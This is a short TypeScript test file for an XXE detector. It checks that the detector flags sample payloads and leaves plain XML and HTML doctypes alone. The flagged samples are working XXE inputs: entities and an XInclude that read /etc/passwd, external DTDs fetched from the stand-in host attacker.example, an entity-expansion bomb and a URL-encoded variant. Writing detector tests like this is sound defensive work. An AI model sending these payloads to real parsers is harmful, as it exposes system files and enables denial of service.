import { test } from 'node:test';
import { assertClean, assertDetected } from './helpers.ts';

test('xxe: external, parameter and expanding entities', () => {
  assertDetected('xxe', [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]>',
    '<!DOCTYPE foo [<!ENTITY xxe PUBLIC "x" "http://attacker.example/">]>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
    '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fhosts%22%3E%5D%3E',
  ]);
});

test('xxe: plain XML and HTML doctypes stay clean', () => {
  assertClean([
    '<?xml version="1.0" encoding="UTF-8"?><order><id>7</id></order>',
    '<!DOCTYPE html>',
    '<!-- a comment -->',
  ]);
});
